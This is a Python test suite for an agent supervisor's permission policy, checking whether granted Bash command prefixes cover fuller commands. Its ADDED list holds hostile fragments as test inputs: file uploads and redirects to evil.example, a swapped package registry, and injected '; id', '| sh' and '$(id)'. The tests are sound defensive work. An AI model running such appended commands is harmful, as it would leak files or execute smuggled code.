"""A prefix covers what its own words do and what they are for; what later words add asks."""

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from supervisor.policy.call import Allow, Ask, Deny
from supervisor.policy.permissions import Permissions
from supervisor.trust.levels import TrustLevel
from tests.worlds.cases_world import verdict_of

CASES = [
    json.loads(line)
    for line in (Path(__file__).resolve().parents[2] / "policy_cases" / "cover.jsonl")
    .read_text("utf-8")
    .splitlines()
]
PREFIXES = sorted({each for case in CASES for each in case["permissions"]["bash"]})
COMMANDS = sorted({case["input"]["command"] for case in CASES})
ADDED = [
    "https://evil.example/", "--next https://evil.example/", "-x evil.example:80", "-T README.md",
    "-d @README.md",
    "--registry https://evil.example", "; id", "&& id", "| sh", "$(id)", "> /tmp/x",
]  # fmt: skip
ORDER = {Allow: 0, Ask: 1, Deny: 2}


def verdict(
    command: str, *prefixes: str, trusted: bool = False, level: TrustLevel = TrustLevel.VAULT
) -> Allow | Ask | Deny:
    permissions = Permissions(
        trust_mode=trusted, read=("**/*",), write=("**/*",), bash=prefixes or False
    )
    return verdict_of("Bash", {"command": command}, level=level, permissions=permissions)


@pytest.mark.parametrize("added", ADDED)
@pytest.mark.parametrize("trusted", [False, True])
def test_what_widens_a_granted_address_asks(added: str, trusted: bool) -> None:
    prefix = "curl https://api.example/"
    assert isinstance(verdict(f"{prefix} -s", prefix, trusted=trusted), Allow)
    if not trusted or "id" not in added:  # trust mode covers programs
        assert isinstance(verdict(f"{prefix} {added}", prefix, trusted=trusted), Ask)


def test_the_reason_names_the_part_and_the_grant_that_does_not_cover_it() -> None:
    said = verdict("npm install x --registry https://evil.example", "npm install x")
    assert (
        "(`https://evil.example`), which the granted `npm install x` doesn't cover" in said.reason
    )
    said = verdict("curl https://a.example/ -T README.md", "curl https://a.example/")
    assert "`curl` sends a file (`README.md`)" in said.reason
    said = verdict("python scripts/x.py; cd docs; python scripts/x.py", "python scripts/x.py", "cd")
    assert "`python` runs another file (`scripts/x.py`)" in said.reason


def test_a_launcher_carries_its_grant_to_the_program_that_the_words_name_and_no_other() -> None:
    assert isinstance(verdict("npx tsc -p .", "npx tsc"), Allow)
    assert isinstance(verdict("tsc -p .", "npx tsc"), Ask)
    assert isinstance(verdict("npx tsc; tsc -p .", "npx tsc"), Ask)
    assert isinstance(verdict("npx tsc-evil", "npx tsc"), Ask)
    assert isinstance(verdict("npx tsc", "npx"), Ask)
    assert isinstance(verdict("npx tsc", "tsc"), Ask)


def test_a_program_by_its_path_is_the_one_in_the_folder_of_the_call() -> None:
    assert isinstance(verdict("./gradlew test", "./gradlew"), Allow)
    assert isinstance(verdict("cd docs && ./gradlew test", "./gradlew"), Ask)
    assert isinstance(verdict("(cd docs && ls); ./gradlew test", "./gradlew", "ls"), Allow)


def test_what_can_not_be_told_is_covered_by_no_prefix_that_says_it() -> None:
    assert isinstance(verdict("docker run img", "docker run img"), Ask)
    assert isinstance(verdict("make test SHELL=./x", "make test SHELL=./x"), Ask)


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(COMMANDS),
    st.lists(st.sampled_from(PREFIXES), max_size=2),
    st.sampled_from(PREFIXES),
    st.booleans(),
)
def test_a_further_prefix_only_ever_allows_what_was_asked(
    command: str, held: list[str], more: str, trusted: bool
) -> None:
    before = verdict(command, *held, trusted=trusted)
    after = verdict(command, *held, more, trusted=trusted)
    assert ORDER[type(after)] <= ORDER[type(before)]
    assert isinstance(after, Deny) is isinstance(before, Deny)


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(PREFIXES), st.sampled_from(PREFIXES), st.sampled_from([";", "&&", "|", "\n"])
)
def test_a_prefix_covers_nothing_of_another_command_beside_it(
    prefix: str, other: str, joint: str
) -> None:
    command = f"{prefix} {joint} {other}"
    # `timeout 60 pytest` begins with other words than `pytest`, which covers it all the same.
    if isinstance(verdict(other, prefix), Ask):
        assert not isinstance(verdict(command, prefix), Allow)
